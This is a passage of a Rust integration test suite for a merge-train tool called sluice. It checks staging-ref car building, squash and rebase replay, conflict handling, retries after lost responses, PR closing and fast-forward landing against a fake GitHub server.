//! The forge side of the merge train, over real HTTP against the fake GitHub
//! (real bare git repositories): building cars on staging refs through
//! GitHub's merges API (merge, squash with co-author trailers, rebase
//! commit by commit), closing squashed or rebased PRs with one comment,
//! landing them by a non-forced ref update, branch protection's required
//! checks, staging refs after a restart, and the fake's new endpoints
//! answering as GitHub does (codes, messages, shapes, ETags, rate limit).

use serde_json::{Value, json};
use sluice::config::GithubConfig;
use sluice::core::{CommitState, MergeMethod, MergeResult, PrKey, RepoName, Sha};
use sluice::fakehub::{FakeHub, Fault};
use sluice::forge::github::GitHub;
use sluice::forge::{CarStep, CommitStatus, Forge, ForgeError, PrClose, PrFetch, RefUpdate};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use warp::Filter;

const REPO: &str = "octo/train";
/// Merge steps do not read the PR's commits: any number will do.
const ANY_PR: u64 = 0;
const TOKEN: &str = "train-token";

async fn hub() -> (tempfile::TempDir, FakeHub) {
    let dir = tempfile::tempdir().unwrap();
    let hub = FakeHub::start(dir.path(), Some(TOKEN.into()))
        .await
        .unwrap();
    hub.create_repo(
        REPO,
        "main",
        &[
            ("README.md", "hello\n"),
            ("shared.txt", "one\ntwo\nthree\n"),
        ],
    )
    .await
    .unwrap();
    (dir, hub)
}

fn github(hub: &FakeHub) -> GitHub {
    let config = GithubConfig {
        api_url: hub.api_url(),
        request_timeout_secs: 1,
        max_retries: 2,
        ..GithubConfig::default()
    };
    GitHub::new(&config, Some(TOKEN.into()))
        .unwrap()
        .with_backoff_base(Duration::from_millis(20))
}

fn repo() -> RepoName {
    RepoName::parse(REPO).unwrap()
}

/// A PR from a new branch `branch` (off main) writing `files`: its number
/// and head.
async fn pr(hub: &FakeHub, branch: &str, files: &[(&str, &str)]) -> (u64, Sha) {
    let head = hub
        .commit(
            REPO,
            branch,
            Some("main"),
            files,
            &format!("Change {branch}"),
        )
        .await
        .unwrap();
    let n = hub
        .open_pr(REPO, branch, "main", &format!("PR {branch}"), "alice")
        .await
        .unwrap();
    (n, head)
}

async fn main_head(hub: &FakeHub) -> Sha {
    hub.branch_head(REPO, "main").await.unwrap()
}

/// `git <args>` in `dir` (a work tree) or the fake's bare repository.
async fn git(dir: Option<&Path>, hub: &FakeHub, args: &[&str]) -> String {
    let mut cmd = tokio::process::Command::new("git");
    match dir {
        Some(d) => {
            cmd.current_dir(d);
        }
        None => {
            let bare = hub.clone_url(REPO);
            cmd.arg("--git-dir").arg(bare.trim_start_matches("file://"));
        }
    }
    let out = cmd
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

async fn tree_of(hub: &FakeHub, sha: &Sha) -> String {
    git(None, hub, &["rev-parse", &format!("{sha}^{{tree}}")]).await
}

async fn parents_of(hub: &FakeHub, sha: &Sha) -> Vec<String> {
    let line = git(
        None,
        hub,
        &["rev-list", "--parents", "-n", "1", sha.as_str()],
    )
    .await;
    line.split_whitespace()
        .skip(1)
        .map(str::to_string)
        .collect()
}

async fn is_ancestor(hub: &FakeHub, a: &Sha, b: &Sha) -> bool {
    let bare = hub.clone_url(REPO);
    tokio::process::Command::new("git")
        .arg("--git-dir")
        .arg(bare.trim_start_matches("file://"))
        .args(["merge-base", "--is-ancestor", a.as_str(), b.as_str()])
        .status()
        .await
        .unwrap()
        .success()
}

/// The tree `git merge` (one merge commit per head, in order) gives for
/// `heads` onto `target`, computed in a fresh clone.
async fn git_merge_tree(hub: &FakeHub, target: &Sha, heads: &[&Sha]) -> String {
    let work = tempfile::tempdir().unwrap();
    let w = Some(work.path());
    git(w, hub, &["init", "-q"]).await;
    let url = hub.clone_url(REPO);
    let mut fetch = vec!["fetch", "-q", url.as_str(), target.as_str()];
    fetch.extend(heads.iter().map(|h| h.as_str()));
    git(w, hub, &fetch).await;
    git(w, hub, &["checkout", "-q", "--detach", target.as_str()]).await;
    for h in heads {
        git(w, hub, &["merge", "-q", "--no-ff", "--no-edit", h.as_str()]).await;
    }
    git(w, hub, &["rev-parse", "HEAD^{tree}"]).await
}

fn merged_sha(step: CarStep) -> Sha {
    match step {
        CarStep::Merged { sha } => sha,
        other => panic!("expected Merged, got {other:?}"),
    }
}

/// A car of one PR: staging ref `sluice/main/1` at `target`, `head`
/// merged into it.
async fn one_pr_car(gh: &GitHub, target: &Sha, head: &Sha) -> Sha {
    gh.put_staging_ref(&repo(), "sluice/main/1", target)
        .await
        .unwrap();
    merged_sha(
        gh.merge_into_staging(
            &repo(),
            "sluice/main/1",
            ANY_PR,
            head,
            MergeMethod::Merge,
            "m",
        )
        .await
        .unwrap(),
    )
}

fn success() -> CommitStatus {
    CommitStatus {
        state: CommitState::Success,
        description: "Car passed".into(),
        target_url: None,
        summary: String::new(),
    }
}

#[derive(Clone, Default)]
struct Received(Arc<Mutex<Vec<(String, Value)>>>);

impl Received {
    fn events(&self, event: &str) -> Vec<Value> {
        self.0
            .lock()
            .unwrap()
            .iter()
            .filter(|(e, _)| e == event)
            .map(|(_, v)| v.clone())
            .collect()
    }
}

/// A webhook receiver that keeps (event, payload) of every delivery.
async fn receiver(hub: &FakeHub) -> Received {
    let got = Received::default();
    let sink = got.clone();
    let route = warp::post()
        .and(warp::header::<String>("x-github-event"))
        .and(warp::body::json())
        .map(move |event: String, body: Value| {
            sink.0.lock().unwrap().push((event, body));
            warp::reply()
        });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(warp::serve(route).incoming(listener).run());
    hub.set_webhook(&format!("http://{addr}/webhook"), "s3cret");
    got
}

// ------------------------------------------------------------ building cars

#[tokio::test]
async fn a_three_pr_car_is_what_git_merge_gives_with_one_merge_commit_per_pr() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("a.txt", "a\n")]).await;
    let (_, b) = pr(&hub, "b", &[("shared.txt", "one\ntwo\nthree\nfour\n")]).await;
    let (_, c) = pr(&hub, "c", &[("c/deep.txt", "c\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);

    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(target.clone())
    );
    let mut tip = target.clone();
    for (i, head) in [&a, &b, &c].into_iter().enumerate() {
        let message = format!("Car 1: merge PR {i}");
        let car = merged_sha(
            gh.merge_into_staging(
                &repo(),
                "sluice/main/1",
                ANY_PR,
                head,
                MergeMethod::Merge,
                &message,
            )
            .await
            .unwrap(),
        );
        assert_eq!(
            parents_of(&hub, &car).await,
            vec![tip.to_string(), head.to_string()],
            "step {i}: parents are (previous tip, PR head)"
        );
        assert_eq!(
            git(None, &hub, &["log", "-1", "--format=%B", car.as_str()]).await,
            message
        );
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(car.clone())
        );
        tip = car;
    }
    assert_eq!(
        tree_of(&hub, &tip).await,
        git_merge_tree(&hub, &target, &[&a, &b, &c]).await,
        "the car's tree is what `git merge` of the three heads onto T gives"
    );
    assert_eq!(
        main_head(&hub).await,
        target,
        "building a car never moves main"
    );

    // A head already in the car: nothing to merge, the ref stays.
    let step = gh
        .merge_into_staging(
            &repo(),
            "sluice/main/1",
            ANY_PR,
            &b,
            MergeMethod::Merge,
            "again",
        )
        .await
        .unwrap();
    assert_eq!(step, CarStep::NothingToMerge { sha: tip.clone() });
    assert_eq!(hub.branch_head(REPO, "sluice/main/1").await, Some(tip));
}

#[tokio::test]
async fn a_conflicting_pr_is_a_conflict_and_leaves_the_staging_ref_where_it_was() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("README.md", "hello from a\n")]).await;
    let (nb, b) = pr(&hub, "b", &[("README.md", "hello from b\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    let car = merged_sha(
        gh.merge_into_staging(
            &repo(),
            "sluice/main/1",
            ANY_PR,
            &a,
            MergeMethod::Merge,
            "a",
        )
        .await
        .unwrap(),
    );
    let mark = hub.request_mark();
    let step = gh
        .merge_into_staging(
            &repo(),
            "sluice/main/1",
            ANY_PR,
            &b,
            MergeMethod::Merge,
            "b",
        )
        .await
        .unwrap();
    assert_eq!(
        step,
        CarStep::Conflict {
            message: "Merge conflict".into()
        }
    );
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(car.clone())
    );
    let calls = hub.requests_since(mark);
    assert_eq!(calls.len(), 1, "a 409 is not retried: {calls:?}");
    assert_eq!(calls[0].status, 409);

    // Squash and rebase conflict alike; the ref does not move.
    for method in [MergeMethod::Squash, MergeMethod::Rebase] {
        let step = gh
            .merge_into_staging(&repo(), "sluice/main/1", nb, &b, method, "b")
            .await
            .unwrap();
        assert!(matches!(step, CarStep::Conflict { .. }), "{step:?}");
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(car.clone())
        );
    }
}

/// One commit of a test PR: files, message, author (name, email; no email:
/// a login of the fake's).
type Step<'a> = (
    &'a [(&'a str, &'a str)],
    &'a str,
    (&'a str, Option<&'a str>),
);

/// A PR from a new branch `branch` (off main) made of `steps`, in order:
/// its number and head.
async fn pr_of(hub: &FakeHub, branch: &str, steps: &[Step<'_>]) -> (u64, Sha) {
    let mut head = None;
    for (files, message, author) in steps {
        head = Some(
            hub.commit_as(REPO, branch, Some("main"), files, message, *author)
                .await
                .unwrap(),
        );
    }
    let n = hub
        .open_pr(REPO, branch, "main", &format!("PR {branch}"), "alice")
        .await
        .unwrap();
    (n, head.unwrap())
}

/// `git log -1 --format=<format> <sha>` in the fake's repository.
async fn show(hub: &FakeHub, format: &str, sha: &str) -> String {
    git(
        None,
        hub,
        &["log", "-1", &format!("--format={format}"), sha],
    )
    .await
}

/// The commits of `range`, oldest first.
async fn commits_in(hub: &FakeHub, range: &str) -> Vec<String> {
    let out = git(None, hub, &["rev-list", "--reverse", range]).await;
    out.lines().map(str::to_string).collect()
}

/// The subjects of the commits of `range`, oldest first.
async fn subjects(hub: &FakeHub, range: &str) -> Vec<String> {
    let out = git(None, hub, &["log", "--reverse", "--format=%s", range]).await;
    out.lines().map(str::to_string).collect()
}

/// The added and removed lines of a commit's change (what a cherry-pick
/// keeps; line numbers and blob ids may differ).
async fn change_of(hub: &FakeHub, sha: &str) -> Vec<String> {
    let out = git(None, hub, &["diff-tree", "-p", "--no-commit-id", "-r", sha]).await;
    out.lines()
        .filter(|l| {
            (l.starts_with('+') || l.starts_with('-'))
                && !l.starts_with("+++")
                && !l.starts_with("---")
        })
        .map(str::to_string)
        .collect()
}

#[tokio::test]
async fn a_squash_car_holds_one_commit_per_pr_with_the_merged_tree() {
    let (_dir, hub) = hub().await;
    let bob = ("Bob Builder", Some("bob@example.invalid"));
    let (na, a) = pr_of(
        &hub,
        "a",
        &[
            (&[("a.txt", "a\n")], "Start a", ("alice", None)),
            (&[("a.txt", "a\nb\n")], "Bob helps", bob),
            (
                &[("a2.txt", "2\n")],
                "Pair on a\n\nCo-authored-by: Carol <carol@example.invalid>",
                ("alice", None),
            ),
            // The same address in another case is the same person.
            (
                &[("a3.txt", "3\n")],
                "Bob again",
                ("Bob B.", Some("BOB@example.invalid")),
            ),
        ],
    )
    .await;
    let (nb, b) = pr(&hub, "b", &[("shared.txt", "zero\none\ntwo\nthree\n")]).await;
    let (nc, c) = pr(&hub, "c", &[("c.txt", "c\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    // The same car with merge commits, to compare trees step by step.
    gh.put_staging_ref(&repo(), "sluice/main/2", &target)
        .await
        .unwrap();
    let mut tip = target.clone();
    for (n, head) in [(na, &a), (nb, &b), (nc, &c)] {
        // What the core asks for: the title and number.
        let message = format!("PR {n} (#{n})");
        let squashed = merged_sha(
            gh.merge_into_staging(
                &repo(),
                "sluice/main/1",
                n,
                head,
                MergeMethod::Squash,
                &message,
            )
            .await
            .unwrap(),
        );
        let merged = merged_sha(
            gh.merge_into_staging(
                &repo(),
                "sluice/main/2",
                ANY_PR,
                head,
                MergeMethod::Merge,
                "m",
            )
            .await
            .unwrap(),
        );
        assert_eq!(parents_of(&hub, &squashed).await, vec![tip.to_string()]);
        assert_eq!(tree_of(&hub, &squashed).await, tree_of(&hub, &merged).await);
        let body = show(&hub, "%B", squashed.as_str()).await;
        let subject = show(&hub, "%s", squashed.as_str()).await;
        assert_eq!(subject, message);
        if n == na {
            // Attributed to the first commit's author; every other author
            // (and co-author) once, first seen first.
            assert_eq!(
                body,
                format!(
                    "{message}\n\nCo-authored-by: Bob Builder <bob@example.invalid>\n\
                     Co-authored-by: Carol <carol@example.invalid>"
                )
            );
            assert_eq!(
                show(&hub, "%an <%ae>", squashed.as_str()).await,
                "alice <alice@users.noreply.fakehub.invalid>"
            );
        } else {
            // One author: nobody else to credit.
            assert_eq!(body, message);
            assert_eq!(show(&hub, "%an", squashed.as_str()).await, "octo");
        }
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(squashed.clone())
        );
        tip = squashed;
    }
    assert_eq!(
        commits_in(&hub, &format!("{target}..{tip}")).await.len(),
        3,
        "one commit per PR"
    );
    assert_eq!(
        tree_of(&hub, &tip).await,
        git_merge_tree(&hub, &target, &[&a, &b, &c]).await
    );
    assert_eq!(main_head(&hub).await, target, "building never moves main");
}

#[tokio::test]
async fn a_rebase_car_replays_each_commit_with_its_message_and_author() {
    let (_dir, hub) = hub().await;
    let bob = ("Bob Builder", Some("bob@example.invalid"));
    let (na, a) = pr_of(
        &hub,
        "a",
        &[
            (
                &[("a.txt", "a\n")],
                "Add a\n\nWith a body.",
                ("alice", None),
            ),
            (
                &[("shared.txt", "one\ntwo\nthree\nfour\n")],
                "Extend shared",
                bob,
            ),
            (&[("a.txt", "a\naa\n")], "Grow a", ("alice", None)),
        ],
    )
    .await;
    let (nb, b) = pr_of(
        &hub,
        "b",
        &[
            (&[("b.txt", "b\n")], "Add b", bob),
            (&[("b/deep.txt", "deep\n")], "Deepen b", ("carol", None)),
        ],
    )
    .await;
    // main moves on after the PRs branched: the replay is onto it.
    hub.commit(
        REPO,
        "main",
        None,
        &[("main.txt", "later\n")],
        "Later on main",
    )
    .await
    .unwrap();
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    let mut tip = target.clone();
    for (n, head) in [(na, &a), (nb, &b)] {
        let step = gh
            .merge_into_staging(
                &repo(),
                "sluice/main/1",
                n,
                head,
                MergeMethod::Rebase,
                "not used",
            )
            .await
            .unwrap();
        let new = merged_sha(step);
        let originals = commits_in(&hub, &format!("main..{head}")).await;
        let replayed = commits_in(&hub, &format!("{tip}..{new}")).await;
        assert_eq!(replayed.len(), originals.len(), "one commit per commit");
        let mut parent = tip.to_string();
        for (orig, copy) in originals.iter().zip(&replayed) {
            assert_ne!(orig, copy);
            assert_eq!(
                parents_of(&hub, &Sha::parse(copy).unwrap()).await,
                vec![parent]
            );
            assert_eq!(show(&hub, "%B", copy).await, show(&hub, "%B", orig).await);
            assert_eq!(
                show(&hub, "%an <%ae> %at", copy).await,
                show(&hub, "%an <%ae> %at", orig).await,
                "the author and the authoring time are kept"
            );
            assert_eq!(change_of(&hub, copy).await, change_of(&hub, orig).await);
            parent = copy.clone();
        }
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(new.clone())
        );
        tip = new;
    }
    assert_eq!(
        tree_of(&hub, &tip).await,
        git_merge_tree(&hub, &target, &[&a, &b]).await,
        "the car's tree is what merging the PRs gives"
    );
    assert_eq!(main_head(&hub).await, target, "building never moves main");
}

#[tokio::test]
async fn a_rebase_conflict_names_the_commit_and_puts_the_ref_back() {
    let (_dir, hub) = hub().await;
    let (n, head) = pr_of(
        &hub,
        "a",
        &[
            (&[("a.txt", "a\n")], "Clean", ("alice", None)),
            (
                &[("README.md", "from the PR\n")],
                "Clashes",
                ("alice", None),
            ),
            (&[("c.txt", "c\n")], "Never reached", ("alice", None)),
        ],
    )
    .await;
    hub.commit(
        REPO,
        "main",
        None,
        &[("README.md", "from main\n")],
        "Main edits",
    )
    .await
    .unwrap();
    let target = main_head(&hub).await;
    let commits = commits_in(&hub, &format!("main..{head}")).await;
    let clash = Sha::parse(&commits[1]).unwrap();
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    let step = gh
        .merge_into_staging(&repo(), "sluice/main/1", n, &head, MergeMethod::Rebase, "")
        .await
        .unwrap();
    let CarStep::Conflict { message } = step else {
        panic!("expected a conflict, got {step:?}");
    };
    assert_eq!(
        message,
        format!("its commit {} conflicts: Merge conflict", clash.short())
    );
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(target),
        "the staging ref is back where the car began"
    );
}

#[tokio::test]
async fn a_car_holds_the_head_it_was_asked_for_even_if_the_pr_moved_on() {
    let (_dir, hub) = hub().await;
    let (n, asked) = pr_of(
        &hub,
        "a",
        &[
            (&[("a.txt", "1\n")], "One", ("alice", None)),
            (&[("a.txt", "2\n")], "Two", ("alice", None)),
        ],
    )
    .await;
    // A push sluice has not heard of yet.
    let newer = hub
        .commit(REPO, "a", None, &[("a.txt", "3\n")], "Three")
        .await
        .unwrap();
    let target = main_head(&hub).await;
    let gh = github(&hub);
    for (i, method) in [MergeMethod::Rebase, MergeMethod::Squash]
        .into_iter()
        .enumerate()
    {
        let name = format!("sluice/main/{}", i + 1);
        gh.put_staging_ref(&repo(), &name, &target).await.unwrap();
        let car = merged_sha(
            gh.merge_into_staging(&repo(), &name, n, &asked, method, "A (#1)")
                .await
                .unwrap(),
        );
        assert_eq!(
            tree_of(&hub, &car).await,
            git_merge_tree(&hub, &target, &[&asked]).await,
            "{method:?}: the tested head, not the newer one"
        );
    }
    // A head GitHub does not list (gone, or not yet): an error, the ref
    // still where it was put.
    let stranger = hub
        .commit(REPO, "elsewhere", Some("main"), &[("x.txt", "x\n")], "x")
        .await
        .unwrap();
    for method in [MergeMethod::Rebase, MergeMethod::Squash] {
        gh.put_staging_ref(&repo(), "sluice/main/9", &target)
            .await
            .unwrap();
        let err = gh
            .merge_into_staging(&repo(), "sluice/main/9", n, &stranger, method, "x")
            .await
            .unwrap_err();
        assert!(
            err.to_string().contains("not among the PR's commits"),
            "{err}"
        );
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/9").await,
            Some(target.clone())
        );
    }
    assert_eq!(
        hub.pr(REPO, n).unwrap().head_sha,
        newer,
        "the PR did move on"
    );
}

#[tokio::test]
async fn a_change_already_on_the_target_adds_no_commit() {
    let (_dir, hub) = hub().await;
    let (na, a) = pr_of(
        &hub,
        "a",
        &[
            (&[("dup.txt", "same\n")], "Already there", ("alice", None)),
            (&[("y.txt", "y\n")], "New", ("alice", None)),
        ],
    )
    .await;
    let (nb, b) = pr(&hub, "b", &[("dup.txt", "same\n")]).await;
    // The same content reaches main another way.
    hub.commit(REPO, "main", None, &[("dup.txt", "same\n")], "Pushed")
        .await
        .unwrap();
    let target = main_head(&hub).await;
    let gh = github(&hub);
    for (i, method) in [MergeMethod::Squash, MergeMethod::Rebase]
        .into_iter()
        .enumerate()
    {
        let name = format!("sluice/main/{}", i + 1);
        gh.put_staging_ref(&repo(), &name, &target).await.unwrap();
        let step = gh
            .merge_into_staging(&repo(), &name, nb, &b, method, "B (#2)")
            .await
            .unwrap();
        assert_eq!(
            step,
            CarStep::NothingToMerge {
                sha: target.clone()
            },
            "{method:?}"
        );
        assert_eq!(hub.branch_head(REPO, &name).await, Some(target.clone()));
    }
    // Rebased, the commit that became empty is dropped.
    gh.put_staging_ref(&repo(), "sluice/main/3", &target)
        .await
        .unwrap();
    let car = merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/3", na, &a, MergeMethod::Rebase, "")
            .await
            .unwrap(),
    );
    assert_eq!(subjects(&hub, &format!("{target}..{car}")).await, ["New"]);
    assert_eq!(
        tree_of(&hub, &car).await,
        git_merge_tree(&hub, &target, &[&a]).await
    );
}

#[tokio::test]
async fn a_rebase_step_whose_answers_were_lost_replays_each_commit_once() {
    let (_dir, hub) = hub().await;
    let (n, head) = pr_of(
        &hub,
        "a",
        &[
            (&[("a.txt", "1\n")], "One", ("alice", None)),
            (&[("b.txt", "2\n")], "Two", ("alice", None)),
            (&[("c.txt", "3\n")], "Three", ("alice", None)),
        ],
    )
    .await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    // The first commit is created, but its answer comes after the client's
    // 1 s timeout: it is created again (an unreferenced copy is left).
    hub.inject_fault(Fault::SlowAnswer {
        method: Some("POST".into()),
        path_prefix: format!("/repos/{REPO}/git/commits"),
        delay: Duration::from_millis(1500),
        times: 1,
    });
    let mark = hub.request_mark();
    let car = merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/1", n, &head, MergeMethod::Rebase, "")
            .await
            .unwrap(),
    );
    let created = hub
        .requests_since(mark)
        .iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("/git/commits"))
        .count();
    assert_eq!(created, 4, "one commit was created twice");
    assert_eq!(
        subjects(&hub, &format!("{target}..{car}")).await,
        ["One", "Two", "Three"],
        "each commit once"
    );

    // Now a lost merge answer, on a car built from scratch.
    gh.put_staging_ref(&repo(), "sluice/main/2", &target)
        .await
        .unwrap();
    hub.inject_fault(Fault::SlowAnswer {
        method: Some("POST".into()),
        path_prefix: format!("/repos/{REPO}/merges"),
        delay: Duration::from_millis(1500),
        times: 1,
    });
    let mark = hub.request_mark();
    let car = merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/2", n, &head, MergeMethod::Rebase, "")
            .await
            .unwrap(),
    );
    let merges: Vec<u16> = hub
        .requests_since(mark)
        .iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("/merges"))
        .map(|r| r.status)
        .collect();
    assert_eq!(
        merges,
        vec![201, 204, 201, 201],
        "the first merge took effect, then its retry found it"
    );
    assert_eq!(
        subjects(&hub, &format!("{target}..{car}")).await,
        ["One", "Two", "Three"],
        "each commit once"
    );
    assert_eq!(
        tree_of(&hub, &car).await,
        git_merge_tree(&hub, &target, &[&head]).await
    );
}

#[tokio::test]
async fn a_squash_step_whose_merge_answer_was_lost_is_finished_on_retry() {
    let (_dir, hub) = hub().await;
    let (na, a) = pr(&hub, "a", &[("a.txt", "a\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    // The merge is carried out, but its answer comes after the client's
    // 1 s timeout; the retry finds nothing to merge and squashes the tip.
    hub.inject_fault(Fault::SlowAnswer {
        method: Some("POST".into()),
        path_prefix: format!("/repos/{REPO}/merges"),
        delay: Duration::from_millis(1500),
        times: 1,
    });
    let mark = hub.request_mark();
    let car = merged_sha(
        gh.merge_into_staging(
            &repo(),
            "sluice/main/1",
            na,
            &a,
            MergeMethod::Squash,
            "A (#1)",
        )
        .await
        .unwrap(),
    );
    let merges: Vec<u16> = hub
        .requests_since(mark)
        .iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("/merges"))
        .map(|r| r.status)
        .collect();
    assert_eq!(
        merges,
        vec![201, 204],
        "the merge took effect, then the retry found it"
    );
    assert_eq!(parents_of(&hub, &car).await, vec![target.to_string()]);
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(car.clone())
    );
    assert_eq!(
        tree_of(&hub, &car).await,
        git_merge_tree(&hub, &target, &[&a]).await
    );
}

// ------------------------------------------------------------ closing

#[tokio::test]
async fn a_landed_pr_is_closed_with_one_comment_naming_the_landed_sha() {
    let (_dir, hub) = hub().await;
    let got = receiver(&hub).await;
    let (n, head) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let landed = main_head(&hub).await;
    let key = PrKey {
        repo: repo(),
        number: n,
    };
    let gh = github(&hub);
    let comment = "Landed on `main` as something by sluice";
    assert_eq!(
        gh.close_landed_pr(&key, &head, &landed, comment)
            .await
            .unwrap(),
        PrClose::Closed
    );
    let view = hub.pr(REPO, n).unwrap();
    assert_eq!(view.state, "closed");
    assert!(!view.merged, "closed, not merged: GitHub cannot tell");
    let comments = hub.comments(REPO, n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert_eq!(comments[0].user, sluice::fakehub::MERGER);
    assert!(comments[0].body.starts_with(comment), "{comments:?}");
    assert!(
        comments[0]
            .body
            .contains(&format!("<!-- sluice:landed {landed} -->")),
        "a hidden marker names the landed sha: {comments:?}"
    );
    hub.idle().await;
    let closed: Vec<Value> = got
        .events("pull_request")
        .into_iter()
        .filter(|e| e["action"] == "closed" && e["number"] == n)
        .collect();
    assert_eq!(closed.len(), 1);
    assert_eq!(closed[0]["pull_request"]["merged"], false);

    // Asked again (a retry, a restart): nothing more.
    assert_eq!(
        gh.close_landed_pr(&key, &head, &landed, comment)
            .await
            .unwrap(),
        PrClose::AlreadyClosed
    );
    assert_eq!(hub.comments(REPO, n).len(), 1);
}

#[tokio::test]
async fn a_comment_whose_answer_was_lost_is_not_posted_twice() {
    let (_dir, hub) = hub().await;
    let (n, head) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let landed = main_head(&hub).await;
    let key = PrKey {
        repo: repo(),
        number: n,
    };
    let gh = github(&hub);
    // The comment is posted, but its answer comes after the 1 s timeout;
    // then the next attempt fails outright.
    let path = format!("/repos/{REPO}/issues/{n}/comments");
    hub.inject_fault(Fault::SlowAnswer {
        method: Some("POST".into()),
        path_prefix: path.clone(),
        delay: Duration::from_millis(1500),
        times: 1,
    });
    let mark = hub.request_mark();
    assert_eq!(
        gh.close_landed_pr(&key, &head, &landed, "Landed")
            .await
            .unwrap(),
        PrClose::Closed
    );
    assert_eq!(
        hub.comments(REPO, n).len(),
        1,
        "{:?}",
        hub.comments(REPO, n)
    );
    let posts = hub
        .requests_since(mark)
        .iter()
        .filter(|r| r.method == "POST" && r.path == path)
        .count();
    assert_eq!(posts, 1, "the comments are read, not posted again");

    // A 502 on the POST: read, then posted once more.
    let (m, head) = pr(&hub, "two", &[("two.txt", "2\n")]).await;
    hub.inject_fault(Fault::status(
        "POST",
        &format!("/repos/{REPO}/issues/{m}/comments"),
        502,
        1,
    ));
    let key = PrKey {
        repo: repo(),
        number: m,
    };
    gh.close_landed_pr(&key, &head, &landed, "Landed")
        .await
        .unwrap();
    assert_eq!(hub.comments(REPO, m).len(), 1);
}

#[tokio::test]
async fn a_pr_pushed_to_since_it_landed_is_left_open_without_a_comment() {
    let (_dir, hub) = hub().await;
    let (n, landed_head) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let newer = hub
        .commit(REPO, "one", None, &[("one.txt", "2\n")], "More")
        .await
        .unwrap();
    let gh = github(&hub);
    let key = PrKey {
        repo: repo(),
        number: n,
    };
    let landed = main_head(&hub).await;
    assert_eq!(
        gh.close_landed_pr(&key, &landed_head, &landed, "Landed")
            .await
            .unwrap(),
        PrClose::HeadMoved { head: newer }
    );
    assert_eq!(hub.pr(REPO, n).unwrap().state, "open");
    assert!(hub.comments(REPO, n).is_empty());
}

// ------------------------------------------------------------ landing

#[tokio::test]
async fn landing_a_car_fast_forwards_main_and_github_marks_its_prs_merged() {
    let (_dir, hub) = hub().await;
    let got = receiver(&hub).await;
    let (n1, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (n2, h2) = pr(&hub, "two", &[("two.txt", "2\n")]).await;
    let (n3, _) = pr(&hub, "three", &[("three.txt", "3\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    for h in [&h1, &h2] {
        gh.merge_into_staging(&repo(), "sluice/main/1", ANY_PR, h, MergeMethod::Merge, "m")
            .await
            .unwrap();
    }
    let car = hub.branch_head(REPO, "sluice/main/1").await.unwrap();
    hub.idle().await;
    let before = got.events("pull_request").len();

    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);
    for n in [n1, n2] {
        let p = hub.pr(REPO, n).unwrap();
        assert!(p.merged, "#{n} is merged");
        assert_eq!(p.state, "closed");
        assert_eq!(p.merge_commit_sha.as_ref(), Some(&car));
        let fetched = gh
            .get_pr(&PrKey {
                repo: repo(),
                number: n,
            })
            .await
            .unwrap();
        assert_eq!(
            fetched,
            Some(PrFetch::Closed {
                merge_sha: Some(car.clone())
            })
        );
    }
    assert_eq!(
        hub.pr(REPO, n3).unwrap().state,
        "open",
        "#{n3} was not in the car"
    );

    hub.idle().await;
    let closed: Vec<Value> = got.events("pull_request")[before..].to_vec();
    let mut numbers: Vec<u64> = closed
        .iter()
        .filter(|v| v["action"] == "closed" && v["pull_request"]["merged"] == true)
        .map(|v| v["number"].as_u64().unwrap())
        .collect();
    numbers.sort();
    assert_eq!(
        numbers,
        vec![n1, n2],
        "a `closed` webhook, merged, per PR in the car"
    );
    for v in &closed {
        assert_eq!(v["pull_request"]["merge_commit_sha"], car.as_str());
    }
